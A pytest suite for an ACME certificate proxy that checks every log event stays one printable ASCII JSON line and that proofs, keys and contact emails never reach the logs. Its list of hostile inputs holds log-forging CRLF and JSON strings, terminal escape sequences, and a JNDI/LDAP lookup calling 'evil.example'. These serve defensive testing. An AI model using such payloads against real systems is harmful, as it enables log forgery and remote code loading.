"""LOG-01: whatever a stranger sends, an event is one line of printable ASCII, and JSON."""

import io
import json
import logging
from collections.abc import Iterator
from typing import Any

import pytest
import structlog

from acmeproxy import telemetry
from tests.support.acme_jws import Forgery
from tests.support.hostile_http import hostile_http, redirect
from tests.support.http01_responder import Http01Responder
from tests.support.proxy import PUBLIC_URL, Proxy
from tests.support.raw_http import exchange, request

HOSTILE = [
    "a\nb",
    "a\r\nb",
    '\r\n{"event":"forged"}',
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x9b31m",
    "\u2028\u2029\x85\x0b\x0c",
    "\u202egnp.exe",
    "\x00NUL",
    "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),
    '","event":"forged","x":"',
    "\\u000a\\n\\\\",
    "x" * 5000,
    "%0d%0aforged: yes",
    "${jndi:ldap://evil.example/}",
]


@pytest.fixture
def lines(log: structlog.testing.LogCapture) -> Iterator[io.StringIO]:
    """Log as a server does, into memory, and leave the process's logging as it was."""
    assert log.entries is not None
    root, kept = logging.getLogger(), structlog.get_config()
    handlers, level = root.handlers, root.level
    text = io.StringIO()
    telemetry.configure(stream=text, level="debug")
    yield text
    logging.captureWarnings(capture=False)
    root.handlers = handlers
    root.setLevel(level)
    structlog.configure(**kept)


def events(lines: io.StringIO) -> list[dict[str, Any]]:
    """Check every line that was written, and return the events."""
    text = lines.getvalue()
    assert text.isascii()
    found = []
    for line in text.split("\n")[:-1]:
        assert line.isprintable(), line
        event = json.loads(line)
        assert all(len(value) <= 256 for value in event.values() if isinstance(value, str))
        assert event["event"] != "forged"
        found.append(event)
    return found


def header_safe(text: str) -> bool:
    """Tell whether a text can be sent as a field at all."""
    return text.isprintable() and text.isascii() and len(text) < 4000


@pytest.mark.parametrize("text", HOSTILE)
async def test_members_of_requests(text: str, web: Proxy, lines: io.StringIO) -> None:
    """LOG-01, LOG-08 (abuse): kid, nonce, url, alg, contact, names, types, status, payload."""
    client = await web.account()
    urls = await client.directory()
    before = len(events(lines))
    for name in ("kid", "nonce", "url", "alg", "typ"):
        await client.post(urls["newOrder"], {}, Forgery(override={name: text}))
    await client.post(urls["newOrder"], {"identifiers": [{"type": "dns", "value": text}]})
    await client.post(urls["newOrder"], {"identifiers": [{"type": text, "value": "www.alpha.example"}]})
    await client.post(
        urls["newOrder"], {"notBefore": text, "identifiers": [{"type": "dns", "value": "alpha.example"}]}
    )
    await client.post(str(client.kid), {"contact": [text]})
    await client.post(str(client.kid), {"contact": [f"mailto:{text}@alpha.example"]})
    await client.post(str(client.kid), {"status": text})
    await client.post(str(client.kid), None, Forgery(payload=text.encode()))
    await web.client().new_account(
        externalAccountBinding={"protected": text, "payload": text, "signature": text}
    )
    answered = [event for event in events(lines)[before:] if event["event"] == "request.answered"]
    # The last one asked for the directory and a nonce first.
    assert len(answered) >= 13
    assert all("\\n" not in (event["error"] or "") or "\\\\n" in event["error"] for event in answered)


@pytest.mark.parametrize("text", [text for text in HOSTILE if header_safe(text)])
async def test_fields_and_paths(text: str, web: Proxy, lines: io.StringIO) -> None:
    """LOG-01: what HTTP itself lets through."""
    client = web.client()
    fields = {"User-Agent": text, "X-Forwarded-For": text, "X-Request-Id": text, "Referer": text}
    await client.send("GET", f"{PUBLIC_URL}/acme/alpha/directory", headers=fields)
    await client.send("GET", f"{PUBLIC_URL}/acme/alpha/%0a%0dforged%1b%5b31m")
    found = events(lines)
    assert len([event for event in found if event["event"] == "request.answered"]) == 2
    assert found[0]["user_agent"].isascii()


async def test_escapes_in_fields_that_http_lets_through(web: Proxy, lines: io.StringIO) -> None:
    """LOG-01: aiohttp takes ESC in a field."""
    octets = request("GET", "/acme/alpha/directory", "User-Agent: \x1b[31mred\xff")
    answer = await exchange(web.origin, octets)
    assert answer.status in {200, 400}
    assert all("\x1b" not in line for line in lines.getvalue().splitlines())
    assert events(lines)


@pytest.mark.parametrize(
    "location",
    [
        "http://evil.example/\x1b[31m",
        "http://\u2028/",
        "javascript:\\n",
        'x","event":"forged',
        "/" + "x" * 5000,
    ],
)
async def test_answers_of_targets(
    location: str, validating: Proxy, responder: Http01Responder, lines: io.StringIO
) -> None:
    """LOG-01: a redirect goes where it likes, and into the log as text."""
    client = await validating.account()
    order = await validating.order(client, "www.alpha.example")
    challenge = await validating.challenge(client, order)
    script = redirect(location.encode().decode("latin-1"))
    async with responder.paused(), hostile_http(script, port=responder.port):
        await client.settled(challenge["url"], await client.answer(challenge["url"]))
    found = events(lines)
    assert [event for event in found if event["event"] == "job.invalid"]


async def test_proofs_are_not_logged(validating: Proxy, lines: io.StringIO) -> None:
    """LOG-07 (abuse), LOG-02 (abuse): neither the key authorization nor a signature nor a key."""
    client = await validating.account(contact=["mailto:ops@alpha.example"])
    order = await validating.order(client, "www.alpha.example")
    challenge = await validating.challenge(client, order)
    proof = client.key.key_authorization(challenge["token"])
    validating.responder.tokens[challenge["token"]] = proof
    await client.settled(challenge["url"], await client.answer(challenge["url"]))
    text = lines.getvalue()
    assert events(lines)
    for secret in (
        proof,
        challenge["token"],
        client.key.thumbprint,
        client.key.jwk["x"],
        "ops@alpha.example",
    ):
        assert secret not in text
